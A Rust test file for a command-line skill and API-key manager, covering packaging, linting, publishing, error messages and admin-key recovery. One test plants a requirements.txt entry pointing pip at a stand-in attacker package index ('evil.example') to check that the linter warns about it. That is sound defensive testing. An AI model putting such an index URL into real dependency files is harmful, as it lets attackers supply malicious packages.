//! Skills and keys at the command line without a server: the engine inside does the work.

use crate::cli_shell::{Shell, examples};

#[test]
fn creates_lints_publishes_lists_fetches_and_deletes_skill() {
    let shell = Shell::new();
    let ok = |args: &[&str]| {
        let said = shell.run(args);
        assert_eq!(said.code, 0, "{args:?}: {}", said.stderr);
        said
    };
    ok(&["skill", "init", "my-skill", "--lang", "node"]);
    assert_eq!(shell.json(&["skill", "lint", "my-skill"]), serde_json::json!([]));
    ok(&["skill", "package", "my-skill"]);
    assert!(
        ok(&["skill", "push", "my-skill.zip"])
            .stderr
            .contains("my-skill 0.1.0: published; `latest` is this version")
    );
    assert!(ok(&["skill", "push", "./my-skill"]).stderr.contains("unchanged"));
    let listed = shell.json(&["skill", "list"]);
    assert_eq!(listed[0]["name"], "my-skill");
    assert_eq!(shell.json(&["skill", "list", "my-skill"])[0]["version"], "0.1.0");
    assert_eq!(shell.json(&["skill", "show", "my-skill"])["language"], "node");
    ok(&["skill", "pull", "my-skill", "--unpack", "fetched"]);
    let same = |path: &str| {
        let read = |folder: &str| std::fs::read(shell.folder().join(folder).join(path)).unwrap();
        read("my-skill") == read("fetched")
    };
    assert!(same("SKILL.md") && same("scripts/main.js"));
    ok(&["skill", "delete", "my-skill", "--version", "0.1.0"]);
    assert_eq!(shell.json(&["skill", "list"]), serde_json::json!([]));
}

#[test]
fn packs_folder_reproducibly() {
    let shell = Shell::new();
    let folder = examples().join("text-summary");
    let folder = folder.to_str().unwrap();
    let pack = |out: &str| {
        assert_eq!(shell.run(&["skill", "package", folder, "--out", out]).code, 0);
        std::fs::read(shell.folder().join(out)).unwrap()
    };
    assert_eq!(pack("a.zip"), pack("b.zip"));
}

#[test]
fn examples_pass_lint() {
    let shell = Shell::new();
    for name in [
        "csv-report",
        "data-analysis",
        "incident-review",
        "lead-scoring",
        "log-triage",
        "pdf-extract",
        "text-summary",
    ] {
        let folder = examples().join(name);
        assert_eq!(
            shell.json(&["skill", "lint", folder.to_str().unwrap()]),
            serde_json::json!([]),
            "{name}"
        );
    }
}

#[test]
fn lint_fails_if_push_would_be_rejected() {
    let shell = Shell::new();
    shell.skill("broken", "entrypoint: scripts/main.py\n", "scripts/other.py", "");
    let said = shell.run(&["skill", "lint", "broken"]);
    assert_eq!(said.code, 1, "{}", said.stderr);
    assert!(said.stdout.contains("scripts/main.py"), "{}", said.stdout);
    let said = shell.run(&["skill", "push", "broken"]);
    assert_eq!(said.code, 3, "{}", said.stderr);
}

#[test]
fn lint_warns_of_syntax_errors() {
    let shell = Shell::new();
    shell.skill(
        "typo",
        "version: 1.0.0\n",
        "scripts/main.py",
        "import os\ndef main(:\n    pass\n",
    );
    let write =
        |path: &str, text: &str| std::fs::write(shell.folder().join("typo").join(path), text).unwrap();
    // Parsed, never run.
    write("scripts/writes.py", "open('ran', 'w')\n");
    write("scripts/open.sh", "if true; then\n  touch ran\n");
    write("scripts/twice.mjs", "import 'node:fs';\nlet let = 1;\n");
    let found = shell.json(&["skill", "lint", "typo"]);
    let found: Vec<_> = found
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["message"].as_str().unwrap().starts_with("syntax error: "))
        .map(|finding| {
            (
                finding["file"].as_str().unwrap(),
                finding["line"].as_u64(),
                finding["severity"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("scripts/main.py", Some(2), "warning"),
            ("scripts/twice.mjs", Some(2), "warning"),
            ("scripts/open.sh", Some(3), "warning"),
        ]
    );
    let pushed = shell.run(&["skill", "push", "typo"]);
    assert_eq!(
        pushed.code, 0,
        "another interpreter may accept it: {}",
        pushed.stderr
    );
}

/// Z-27: the author is warned before the first run.
#[test]
fn lint_and_push_warn_about_foreign_package_sources() {
    let shell = Shell::new();
    shell.skill("needs", "version: 1.0.0\n", "scripts/main.py", "");
    let list = "six\n-e .\n--index-url https://evil.example/simple\n-i https://pypi.org/simple\n";
    std::fs::write(shell.folder().join("needs/requirements.txt"), list).unwrap();
    let found = shell.json(&["skill", "lint", "needs"]);
    let places: Vec<_> = found
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["file"] == "requirements.txt")
        .map(|finding| (&finding["severity"], &finding["line"]))
        .collect();
    let warning = serde_json::json!("warning");
    assert_eq!(
        places,
        [(&warning, &2.into()), (&warning, &3.into())],
        "{found:#}"
    );
    let pushed = shell.run(&["skill", "push", "needs"]);
    assert_eq!(pushed.code, 0, "{}", pushed.stderr);
    for part in [
        "requirements.txt:2: ",
        "requirements.txt:3: ",
        "deps.python_index",
    ] {
        assert!(pushed.stderr.contains(part), "{part}: {}", pushed.stderr);
    }
}

#[test]
fn errors_name_version_and_only_applicable_hints() {
    let shell = Shell::new();
    shell.skill("guide", "version: 1.0.0\n", "notes.md", "one");
    assert_eq!(shell.run(&["skill", "push", "guide"]).code, 0);
    // Published, so that its folder would be of no more use.
    let said = shell.run(&["run", "guide"]);
    assert!(said.stderr.contains("no program"), "{}", said.stderr);
    assert!(!said.stderr.contains("./guide"), "{}", said.stderr);
    shell.skill("guide", "version: 1.0.0\n", "notes.md", "two");
    let said = shell.run(&["skill", "push", "guide"]);
    assert!(
        said.stderr.contains("`guide` version `1.0.0` is already"),
        "{}",
        said.stderr
    );
}

#[test]
fn rejections_exit_with_3_and_name_fix() {
    let shell = Shell::new();
    shell.skill("folder", "lang: bash\n", "scripts/main.sh", "");
    let unknown = "019a0000-0000-7000-8000-000000000000";
    for (args, hint) in [
        (&["run", "nosuch"][..], "not found"),
        (&["run", "folder"], "./folder"),
        (&["run", "./nosuch"], "nosuch"),
        (&["run", "./folder", "--input", "{"], "--input"),
        (&["run", "./folder", "--input", "@nosuch.json"], "nosuch.json"),
        (&["run", "./folder", "--file", "nosuch.csv"], "nosuch.csv"),
        (&["run", "./folder", "--file", "folder"], "`folder` is a folder"),
        (&["run", "./folder", "--out", "folder/SKILL.md"], "not a folder"),
        (&["skill", "init", "folder"], "already exists"),
        (
            &["skill", "package", "./folder", "--out", "no/where.zip"],
            "no such folder: `no`; create it first",
        ),
        (
            &["skill", "package", "./nosuch"],
            "no such file or folder: `./nosuch`",
        ),
        (&["skill", "package", "folder/SKILL.md"], "not a folder"),
        (&["skill", "show", "nosuch"], "not found"),
        (&["skill", "push", "./nosuch"], "nosuch"),
        (&["exec", "show", unknown], "not found"),
        (&["exec", "logs", unknown], "not found"),
        (&["exec", "cancel", unknown], "not found"),
        (&["key", "revoke", unknown], "not found"),
    ] {
        let said = shell.run(args);
        assert_eq!(said.code, 3, "{args:?}: {}", said.stderr);
        assert!(said.stderr.contains(hint), "{args:?}: {}", said.stderr);
        assert_eq!(said.stdout, "", "{args:?}");
    }
}

#[test]
fn rejects_standard_input_for_two_options() {
    let shell = Shell::new();
    for args in [
        &["run", "--code", "-", "--input", "-"][..],
        &["run", "--code", "-", "--stdin", "-"],
        &["run", "./folder", "--input", "-", "--stdin", "-"],
    ] {
        let said = shell.run(args);
        assert_eq!(said.code, 2, "{args:?}: {}", said.stderr);
        assert!(
            said.stderr.contains("both read standard input"),
            "{}",
            said.stderr
        );
    }
}

#[test]
fn creates_lists_rotates_and_revokes_keys() {
    let shell = Shell::new();
    let made = shell.json(&["key", "create", "ci", "--scope", "run", "--scope", "skills"]);
    assert_eq!(made["scopes"], serde_json::json!(["run", "skills"]));
    let rotated = shell.json(&["key", "rotate", made["key_id"].as_str().unwrap()]);
    assert_ne!(rotated["api_key"], made["api_key"]);
    assert_eq!(
        shell
            .run(&["key", "revoke", rotated["key_id"].as_str().unwrap()])
            .code,
        0
    );
    let listed = shell.run(&["key", "list"]);
    assert_eq!(listed.stdout.matches("revoked").count(), 2, "{}", listed.stdout);
    assert!(!listed.stdout.contains(made["api_key"].as_str().unwrap()));
}

/// T-16: concurrent first starts create one administrator's key, which is stored.
#[test]
fn concurrent_first_starts_create_one_key() {
    let shell = Shell::new();
    let starts: Vec<_> = (0..6)
        .map(|_| shell.spawn(&["key", "list", "--format", "json"]))
        .collect();
    for start in starts {
        let said = crate::cli_shell::command_output(start.wait_with_output().unwrap());
        assert_eq!(said.code, 0, "{}", said.stderr);
        let keys: serde_json::Value = serde_json::from_str(&said.stdout).unwrap();
        assert_eq!(keys.as_array().unwrap().len(), 1, "{keys}");
    }
}

/// A revoked administrator's key is not replaced behind the operator's back.
#[test]
fn does_not_recreate_lost_key() {
    let shell = Shell::new();
    let other = shell.json(&["key", "create", "other", "--scope", "admin"]);
    std::fs::remove_file(shell.data().join("admin.key")).unwrap();
    let said = shell.run(&["key", "list"]);
    assert_eq!(said.code, 3, "{}", said.stderr);
    assert!(said.stderr.contains("SKILLBOX_API_KEY"), "{}", said.stderr);
    assert!(!shell.data().join("admin.key").exists());
    let said = shell.run(&["key", "list", "--api-key", other["api_key"].as_str().unwrap()]);
    assert_eq!(said.code, 0, "{}", said.stderr);
}

#[test]
fn key_recover_works_for_owner_of_data_folder() {
    let shell = Shell::new();
    let keys = || shell.json(&["key", "list"]).as_array().unwrap().clone();
    let first = keys()[0]["key_id"].as_str().unwrap().to_owned();
    let file = shell.data().join("admin.key");
    let kept = std::fs::read(&file).unwrap();
    let said = shell.run(&["key", "recover"]);
    assert_eq!(said.code, 3, "{}", said.stderr);
    assert_eq!(std::fs::read(&file).unwrap(), kept);

    // Revoked, the file still there.
    assert_eq!(shell.run(&["key", "revoke", &first]).code, 0);
    let locked_out = shell.run(&["key", "list"]);
    assert!(
        locked_out.stderr.contains("skillbox key recover"),
        "{}",
        locked_out.stderr
    );
    let said = shell.run(&["key", "recover"]);
    assert_eq!(said.code, 0, "{}", said.stderr);
    assert!(!said.stderr.contains("skb_"), "{}", said.stderr);
    assert_eq!(keys().len(), 2);

    // The file deleted.
    std::fs::remove_file(&file).unwrap();
    assert_eq!(shell.run(&["key", "recover"]).code, 0);
    assert_eq!(keys()[0]["scopes"], serde_json::json!(["admin"]));
    assert_eq!(keys().len(), 3);
}
